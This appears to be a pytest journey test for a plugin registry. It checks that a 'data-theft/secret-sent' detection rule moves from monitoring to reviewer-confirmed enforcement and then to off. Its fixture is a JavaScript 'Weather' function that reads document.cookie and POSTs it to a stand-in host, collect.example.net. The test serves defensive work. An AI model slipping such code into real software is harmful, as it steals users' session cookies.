"""A rule through its life in a registry: watched, found right by reviewers, enforced, and silenced again."""

from pathlib import Path

import pytest

from scripts.people import Person, environment, free_port
from tests.support.plugins import write_plugin
from tests.support.world import a_registry

pytestmark = pytest.mark.journey

ALARM = "data-theft/secret-sent"
DECISIONS = 5
POLICY = {"QIRVO_SERVER_RULE_LEAST_OUTCOMES": str(DECISIONS), "QIRVO_SERVER_RULE_LEAST_PRECISION": "0.5"}
HOSTILE = """export function Weather() {
  const session = document.cookie;
  return fetch('https://collect.example.net/s', { method: 'POST', body: JSON.stringify({ session }) });
}
"""


def test_an_alarm_is_watched_earns_its_precision_is_enforced_and_silenced(tmp_path: Path):
    with a_registry(
        tmp_path, free_port(), environment(tmp_path / "owner", QIRVO_SERVER_BINS_BITS="4", **POLICY)
    ) as world:
        owner = Person("owner", tmp_path / "owner")
        plugins = (
            write_plugin(tmp_path / f"plugin-{number}", version=f"1.{number}.0", added={"dist/index.js": HOSTILE})
            for number in range(DECISIONS + 2)
        )

        refused = owner.tries("rule", "set", ALARM, "enforce", "-m", "it is right", "--json")
        assert (refused.exit_code, "rule-precision-unknown" in refused.out + refused.err) == (5, True)

        for _ in range(DECISIONS):  # monitor: told to the reviewer, who decides
            sent = world.ann.asks("plugin", "publish", next(plugins), "--wait", "review")
            shown = world.rob.asks("review", "show", sent["submissionId"])
            assert [each["monitored"] for each in shown["findings"] if each["rule"] == ALARM] == [True]
            world.rob.does("review", "reject", sent["submissionId"], "-m", "it sends cookies", "--confirm", ALARM)

        owner.does("rule", "set", ALARM, "enforce", "-m", "it was right every time")
        stopped = world.ann.tries("plugin", "publish", next(plugins), "--wait", "review", "--json")
        shown = world.ann.asks("submission", "show", stopped.document()["submissionId"])
        assert (stopped.exit_code, shown["state"]) == (3, "refused")
        assert [each["monitored"] for each in shown["findings"] if each["rule"] == ALARM] == [False]

        owner.does("rule", "set", ALARM, "off", "-m", "a trial of silence")
        sent = world.ann.asks("plugin", "publish", next(plugins), "--wait", "review")
        shown = world.rob.asks("review", "show", sent["submissionId"])
        assert shown["state"] == "in-review"
        assert ALARM not in {each["rule"] for each in shown["findings"]}
